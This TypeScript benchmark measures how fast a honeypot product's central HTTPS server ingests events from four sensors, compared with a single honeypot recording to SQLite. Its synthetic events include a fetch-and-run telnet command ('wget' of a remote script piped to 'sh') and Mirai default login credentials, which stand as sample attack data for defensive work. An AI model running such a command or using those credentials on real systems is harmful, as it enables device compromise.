/**
 * `honeypot-ingest`: events per second a central `mamori serve` (its own process, HTTPS with a
 * self-signed certificate, a throwaway PostgreSQL as the store) accepts from 4 sensors at once,
 * against a single honeypot writing the same events to its own SQLite through the Recorder, in
 * the same run. Each sensor is a real SensorQueue (its own SQLite file) and SensorReporter with
 * the product's defaults (200 events a batch); the queues are filled first, then the clock runs
 * from starting the reporters until every queue is empty and the centre holds every event.
 */
import { type ChildProcess, execFileSync, spawn } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  EVENT_IDS,
  type HoneypotEvent,
  Recorder,
  SensorQueue,
  SensorReporter,
} from '../src/honeypot/index.js';
import { openDb } from '../src/storage/index.js';
import type { BenchFn, Figure } from './lib.js';

const ROOT = join(import.meta.dirname, '..');
const BIN = join(ROOT, 'dist', 'cli', 'bin.js');
const SENSORS = 4;
const BATCH = 200;

/** A plausible mix: logins with Mirai credentials, HTTP paths, telnet commands. */
function eventFor(i: number, sensor: number): HoneypotEvent {
  const kind = EVENT_IDS[i % 4 === 0 ? 0 : i % 4 === 1 ? 1 : i % 4 === 2 ? 3 : 7]!;
  return {
    eventid: kind,
    time: new Date(Date.UTC(2026, 11, 4) + i * 10).toISOString(),
    session: `s${sensor}-${Math.floor(i / 4)}`,
    protocol: kind === 'telnet.command' || kind === 'login.failed' ? 'telnet' : 'http',
    srcIp: `198.51.100.${(i * 7) % 250}`,
    srcPort: 30000 + (i % 30000),
    dstPort: kind === 'http.request' ? 80 : 23,
    ...(kind === 'login.failed' ? { username: 'root', password: 'xc3511' } : {}),
    summary:
      kind === 'http.request'
        ? { method: 'GET', path: '/cgi-bin/snapshot.cgi', ua: 'Mozilla/5.0 zgrab/0.x' }
        : kind === 'telnet.command'
          ? { command: 'cd /tmp; wget http://203.0.113.9/bins.sh; sh bins.sh' }
          : {},
  };
}

async function freshDb(base: string, name: string): Promise<string> {
  const { default: pg } = await import('pg');
  const c = new pg.Client({ connectionString: base });
  await c.connect();
  await c.query(`drop database if exists ${name} with (force)`);
  await c.query(`create database ${name}`);
  await c.end();
  const u = new URL(base);
  u.pathname = `/${name}`;
  return u.toString();
}

async function fill(record: (ev: HoneypotEvent) => Promise<void>, n: number, sensor: number) {
  // Waves of 500 concurrent records: what a busy honeypot's sessions do, group-committed.
  for (let i = 0; i < n; i += 500) {
    const wave: Promise<void>[] = [];
    for (let j = i; j < Math.min(n, i + 500); j++) wave.push(record(eventFor(j, sensor)));
    await Promise.all(wave);
  }
}

export const run: BenchFn = async (ctx) => {
  const perSensor = Math.round(25_000 * ctx.scale);
  const total = perSensor * SENSORS;
  const dir = mkdtempSync(join(tmpdir(), 'mamori-ingest-'));
  const env = { ...process.env, XDG_CONFIG_HOME: dir, XDG_DATA_HOME: dir, HOME: dir };
  const figures: Figure[] = [];
  const notes: string[] = [];
  let centre: ChildProcess | undefined;
  const queues: SensorQueue[] = [];
  try {
    // The base: one honeypot recording into its own SQLite.
    const single = await openDb(join(dir, 'single.db'));
    const rec = await Recorder.open({ store: single });
    let t0 = performance.now();
    for (let s = 0; s < SENSORS; s++) await fill((e) => rec.record(e), perSensor, s);
    await rec.close();
    const singleSec = (performance.now() - t0) / 1000;
    await single.close();
    const singleRate = total / singleSec;
    ctx.log(`single honeypot → SQLite: ${total} events in ${singleSec.toFixed(1)} s`);

    // The centre.
    const base = await ctx.postgresUrl();
    const db = await freshDb(base, 'mamori_bench_ingest');
    const cert = join(dir, 'centre.pem');
    const key = join(dir, 'centre.key');
    execFileSync('openssl', [
      'req',
      '-x509',
      '-newkey',
      'ec',
      '-pkeyopt',
      'ec_paramgen_curve:prime256v1',
      '-nodes',
      '-days',
      '2',
      '-subj',
      '/CN=127.0.0.1',
      '-addext',
      'subjectAltName=IP:127.0.0.1',
      '-keyout',
      key,
      '-out',
      cert,
    ]);
    for (let s = 0; s < SENSORS; s++)
      execFileSync(
        process.execPath,
        [BIN, 'sensor', 'add', `bench-${s}`, '--out', join(dir, `s${s}.token`), '--db', db],
        { env },
      );
    const srv = createServer();
    await new Promise<void>((r) => srv.listen(0, '127.0.0.1', () => r()));
    const port = (srv.address() as { port: number }).port;
    await new Promise<void>((r) => srv.close(() => r()));
    centre = spawn(
      process.execPath,
      [
        BIN,
        'serve',
        '--port',
        String(port),
        '--tls-cert',
        cert,
        '--tls-key',
        key,
        '--json',
        '--db',
        db,
      ],
      { env, stdio: ['ignore', 'pipe', 'ignore'] },
    );
    await new Promise<void>((resolve, reject) => {
      centre!.stdout!.once('data', () => resolve());
      centre!.once('exit', (c) => reject(new Error(`serve exited ${c}`)));
    });

    // Sensors' queues, filled before the clock (their enqueue rate is the base's, measured above).
    for (let s = 0; s < SENSORS; s++) {
      const q = await SensorQueue.open(join(dir, `sensor-${s}.db`));
      queues.push(q);
      await fill((e) => q.recorder.record(e), perSensor, s);
      await q.recorder.flush();
    }
    const ca = readFileSync(cert, 'utf8');
    const reporters = queues.map(
      (queue, s) =>
        new SensorReporter({
          queue,
          url: `https://127.0.0.1:${port}`,
          sensor: `bench-${s}`,
          token: readFileSync(join(dir, `s${s}.token`), 'utf8').trim(),
          ca,
          batchSize: BATCH,
          pollMs: 20,
        }),
    );
    t0 = performance.now();
    for (const r of reporters) r.start();
    const drained = await Promise.all(reporters.map((r) => r.drain(600_000)));
    const ingestSec = (performance.now() - t0) / 1000;
    for (const r of reporters) await r.stop();
    if (drained.some((d) => !d)) throw new Error('a sensor did not drain within 10 minutes');
    const check = await openDb(db, { migrate: false });
    const row = await check.db
      .selectFrom('honeypot_sensor_event')
      .select((eb) => eb.fn.countAll().as('n'))
      .executeTakeFirstOrThrow();
    await check.close();
    if (Number(row.n) !== total) throw new Error(`the centre holds ${row.n} of ${total} events`);
    const ingestRate = total / ingestSec;
    ctx.log(`centre ← ${SENSORS} sensors: ${total} events in ${ingestSec.toFixed(1)} s`);
    figures.push({
      name: `central serve (PostgreSQL) accepting from ${SENSORS} sensors over HTTPS`,
      value: Math.round(ingestRate),
      unit: 'events/s',
      base: 'one honeypot recording to its own SQLite (Recorder), same events',
      baseValue: Math.round(singleRate),
      ratio: ingestRate / singleRate,
    });
    notes.push(
      `${SENSORS} sensors × ${perSensor} events (${total}); batches of ${BATCH} (the sensor default), keep-alive HTTPS with a self-signed P-256 certificate the sensors trust via ca; the centre is \`mamori serve\` in its own process on a throwaway PostgreSQL over loopback; reporters and their SQLite queues share the bench process. Every event is checked at the centre (count equals ${total}).`,
      'The base records the same events through the honeypot Recorder (group commit, no JSON-lines log) in waves of 500 concurrent records. This machine has 2 cores shared with other sessions: figures are noisy.',
    );
  } finally {
    for (const q of queues) await q.close().catch(() => {});
    centre?.kill('SIGTERM');
    rmSync(dir, { recursive: true, force: true });
  }
  return { figures, notes };
};
